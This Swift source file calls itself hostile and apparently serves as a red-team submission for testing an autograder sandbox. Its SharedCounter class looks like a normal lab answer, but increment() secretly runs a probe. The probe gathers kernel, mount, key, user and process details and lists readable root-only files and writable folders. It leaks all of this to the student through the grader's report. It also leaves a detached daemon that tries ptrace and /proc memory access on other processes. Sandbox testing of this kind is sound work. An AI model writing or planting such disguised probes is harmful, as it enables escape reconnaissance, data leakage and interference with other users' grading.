// Hostile: looks around the sandbox and sends what it sees back to the student through the
// grader's own report. labrun's output is quoted in the counter-unit check's failure message,
// which goes into OUT/STUDENT.xml and results.json (what Gradescope shows the student). It
// also leaves a daemon for the rest of the Swift Testing phase that tries ptrace and
// /proc/PID/mem on the processes of the checks that run at the same time, and reports on the
// next labrun run.
import Glibc

public final class SharedCounter: @unchecked Sendable {
    public static let shared = SharedCounter()
    public init() {}
    public func increment() -> Int {
        Probe.inLabrun()
        return 1
    }
}

@_silgen_name("ptrace") func sysPtrace(_ request: Int32, _ pid: Int32, _ addr: UInt, _ data: UInt) -> Int
@_silgen_name("syscall") func sysCall(_ n: Int, _ a: Int, _ b: Int, _ c: Int, _ d: Int, _ e: Int) -> Int

enum Probe {
    static func read(_ path: String, limit: Int = 1 << 20) -> String? {
        let fd = open(path, O_RDONLY | O_NONBLOCK)
        guard fd >= 0 else { return nil }
        defer { close(fd) }
        var bytes: [UInt8] = [], buffer = [UInt8](repeating: 0, count: 65536)
        while bytes.count < limit {
            let n = Glibc.read(fd, &buffer, buffer.count)
            if n <= 0 { break }
            bytes += buffer[0..<n]
        }
        return String(decoding: bytes, as: UTF8.self)
    }

    static func exe(_ pid: String) -> String {
        var target = [CChar](repeating: 0, count: 4096)
        return readlink("/proc/\(pid)/exe", &target, target.count - 1) > 0 ? String(cString: target) : "?"
    }

    static func pids() -> [String] {
        guard let dir = opendir("/proc") else { return [] }
        defer { closedir(dir) }
        var out: [String] = []
        while let entry = readdir(dir) {
            let name = withUnsafeBytes(of: entry.pointee.d_name) { String(decoding: $0.prefix { $0 != 0 }, as: UTF8.self) }
            if Int32(name) != nil { out.append(name) }
        }
        return out
    }

    static func canWrite(_ folder: String) -> Bool {
        let path = folder + "/.probe"
        let fd = open(path, O_WRONLY | O_CREAT, 0o644)
        guard fd >= 0 else { return false }
        close(fd)
        unlink(path)
        return true
    }

    static func inLabrun() {
        guard exe("self").hasSuffix("/labrun") else { return }
        var seen: [String] = []
        seen.append("kernel " + (read("/proc/sys/kernel/osrelease") ?? "?"))
        seen.append("uid_map " + (read("/proc/self/uid_map") ?? "?"))
        seen.append("mounts " + (read("/proc/self/mountinfo") ?? "?").split(separator: "\n")
            .map { $0.split(separator: " ").dropFirst(3).prefix(2).joined(separator: " ") }.joined(separator: "; "))
        seen.append("passwd " + (read("/etc/passwd") ?? "?").split(separator: "\n").prefix(40).map { String($0.prefix { $0 != ":" }) }.joined(separator: ","))
        seen.append("key-users " + (read("/proc/key-users") ?? "?"))
        seen.append("keys " + (read("/proc/keys") ?? "?"))
        seen.append("root-only /proc files readable: " + ["/proc/slabinfo", "/proc/vmallocinfo", "/proc/pagetypeinfo", "/proc/kcore", "/proc/kmsg", "/proc/1/environ", "/proc/1/fd/3"]
            .filter { read($0, limit: 1) != nil }.joined(separator: ","))
        seen.append("writable: " + ["/", "/dev", "/dev/shm", "/tmp", "/kit", "/submission", "/proc/sys/kernel"].filter(canWrite).joined(separator: ","))
        seen.append("processes: " + pids().map { "\($0)=\(exe($0).split(separator: "/").last ?? "?")" }.joined(separator: ","))
        seen.append("kit: " + ((try? list("/kit")) ?? "") + " / bin: " + ((try? list("/kit/bin")) ?? ""))
        seen.append("daemon report: " + (read("/tmp/.redteam-daemon") ?? "none yet"))
        if access("/tmp/.redteam-daemon-started", F_OK) != 0 { startDaemon() }
        let line = seen.joined(separator: " || ").replacingNewlines() + "\n"
        _ = line.withCString { write(1, $0, strlen($0)) }
        _exit(0)
    }

    static func list(_ path: String) throws -> String {
        guard let dir = opendir(path) else { return "unreadable" }
        defer { closedir(dir) }
        var out: [String] = []
        while let entry = readdir(dir) {
            out.append(withUnsafeBytes(of: entry.pointee.d_name) { String(decoding: $0.prefix { $0 != 0 }, as: UTF8.self) })
        }
        return out.sorted().joined(separator: ",")
    }

    /// For 60 s: ptrace-seize (then let go) and read /proc/PID/mem of every process that is
    /// not this labrun's family; the tally goes to /tmp for the next labrun run to print.
    static func startDaemon() {
        close(open("/tmp/.redteam-daemon-started", O_WRONLY | O_CREAT, 0o644))
        guard fork() == 0 else { return }
        _ = setsid()
        guard fork() == 0 else { _exit(0) }
        close(1)
        var tally: [String: String] = [:]
        for _ in 0..<120 {
            for pid in pids() where Int32(pid) != getpid() {
                let name = String(exe(pid).split(separator: "/").last ?? "?")
                let seized = sysPtrace(0x4206, Int32(pid)!, 0, 0) == 0   // PTRACE_SEIZE
                let error = errno
                if seized { _ = sysPtrace(17, Int32(pid)!, 0, 0) }      // PTRACE_DETACH
                let mem = open("/proc/\(pid)/mem", O_RDONLY)
                if mem >= 0 { close(mem) }
                tally[name + "#" + pid] = (seized ? "ptrace-ok" : "ptrace-errno\(error)") + (mem >= 0 ? "+mem-ok" : "")
            }
            let text = tally.sorted { $0.key < $1.key }.map { "\($0.key):\($0.value)" }.joined(separator: ",")
            let fd = open("/tmp/.redteam-daemon", O_WRONLY | O_CREAT | O_TRUNC, 0o644)
            _ = text.withCString { write(fd, $0, strlen($0)) }
            close(fd)
            usleep(500_000)
        }
        _exit(0)
    }
}

extension String {
    func replacingNewlines() -> String { String(map { $0 == "\n" || $0 == "\t" ? " " : $0 }) }
}
